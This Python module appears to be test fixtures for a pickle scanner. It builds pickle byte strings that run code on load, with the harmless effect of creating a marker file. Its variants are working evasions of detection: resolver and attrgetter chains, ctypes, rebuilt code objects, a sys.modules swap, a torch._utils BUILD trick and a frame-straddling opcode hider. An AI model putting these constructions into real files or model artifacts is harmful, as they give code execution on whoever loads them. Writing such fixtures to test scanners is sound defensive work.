"""Pickle programs that act when they are loaded: all that they do is to make an empty file `acted` where they are run."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable

MARKER = "acted"
SHELL = f"touch {MARKER}"
CODE = f"open({MARKER!r}, 'w').close()"
PROTOCOL_2, PROTOCOL_4 = b"\x80\x02", b"\x80\x04"

_PARTS_OF_CODE = (
    "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames filename name qualname "
    "firstlineno linetable exceptiontable freevars cellvars"
)

Make = Callable[[], bytes]


def text(value: str) -> bytes:
    """The opcode for a text of any length; no memo."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def value(of: object) -> bytes:
    """The opcodes that leave a plain value on the stack."""
    return pickle.dumps(of, 3)[2:-1]


def name(module: str, qualname: str) -> bytes:
    return text(module) + text(qualname) + b"\x93"


def call(module: str, qualname: str, *arguments: object) -> bytes:
    return name(module, qualname) + value(arguments) + b"R"


PAYLOAD = b"cos\nsystem\n" + text(SHELL) + b"\x85R"
"""`os.system("touch acted")` in opcodes of protocol 2, without begin and end."""
PROGRAM = PROTOCOL_2 + PAYLOAD + b"."
HARMLESS = PROTOCOL_2 + b"}."


def raw(program: bytes) -> Make:
    return lambda: program


def calls(module: str, qualname: str, *arguments: object) -> Make:
    """A pickle that calls one name."""
    return raw(PROTOCOL_4 + call(module, qualname, *arguments) + b".")


def calls_method(module: str, owner: str, method: str, *arguments: object, made_with: tuple[object, ...] = ()) -> Make:
    """A pickle that makes an instance and calls a method of its class with it."""
    instance = call(module, owner, *made_with)
    rest = b"".join(map(value, arguments))
    return raw(PROTOCOL_4 + name(module, f"{owner}.{method}") + b"(" + instance + rest + b"tR.")


def resolved() -> bytes:
    found = call("pkgutil", "resolve_name", "os:system")
    return PROTOCOL_4 + found + value((SHELL,)) + b"R."


def attribute_chain() -> bytes:
    getter = call("operator", "attrgetter", "system")
    return PROTOCOL_4 + getter + call("importlib", "import_module", "os") + b"\x85R" + value((SHELL,)) + b"R."


def method_caller() -> bytes:
    caller = call("operator", "methodcaller", "system", SHELL)
    return PROTOCOL_4 + caller + call("importlib", "import_module", "os") + b"\x85R."


def foreign_function() -> bytes:
    library = call("ctypes", "CDLL", None)
    function = name("ctypes", "CDLL.__getattr__") + b"(" + library + text("system") + b"tR"
    return PROTOCOL_4 + function + value((SHELL.encode(),)) + b"R."


def code_object() -> bytes:
    """A function made of a code object, which is how cloudpickle stores functions."""
    code = compile(CODE, "payload", "exec")
    made = call("types", "CodeType", *(getattr(code, f"co_{part}") for part in _PARTS_OF_CODE.split()))
    return PROTOCOL_4 + name("types", "FunctionType") + b"(" + made + value({}) + b"tR)R."


def new_objects() -> bytes:
    """No call but `__new__`: bytes are made of a map, and each of its values by `eval`."""
    mapped = name("builtins", "map") + b"(" + name("builtins", "eval") + value([CODE]) + b"t}\x92"
    return PROTOCOL_4 + name("builtins", "bytes") + mapped + b"\x85}\x92."


def module_replaced() -> bytes:
    """`sys.modules` is put in the place of `sys`, so that `sys.get` is its method, and `sys.system` that of os."""
    modules = b"csys\nmodules\nq\x000h\x00" + text("sys") + b"h\x00s0"
    found = b"csys\nget\n" + text("os") + b"\x85Rq\x010h\x00" + text("sys") + b"h\x01s0"
    return PROTOCOL_2 + modules + found + b"csys\nsystem\n" + text(SHELL) + b"\x85R."


def module_built() -> bytes:
    """BUILD writes numpy's `__builtins__` into the module `torch._utils`, which then has an `eval`."""
    built = b"ctorch\n_utils\ncnumpy\n__builtins__\nb0"
    return PROTOCOL_2 + built + b"ctorch._utils\neval\n" + text(CODE) + b"\x85R."


def straddled() -> bytes:
    """A frame ends five bytes into a text of forty, where CPython before 3.13.15 begins to read it again behind the frame.

    To `pickletools` what follows is a second text; CPython takes the five bytes before it for the end of the first, and
    the second for opcodes.
    """
    hidden = b"0" + PAYLOAD + b"."
    frame = b"X" + struct.pack("<I", 40) + b"-----"
    behind = b"-" * 35 + b"X" + struct.pack("<I", len(hidden)) + hidden
    return PROTOCOL_4 + b"\x95" + struct.pack("<Q", len(frame)) + frame + behind + b"0."
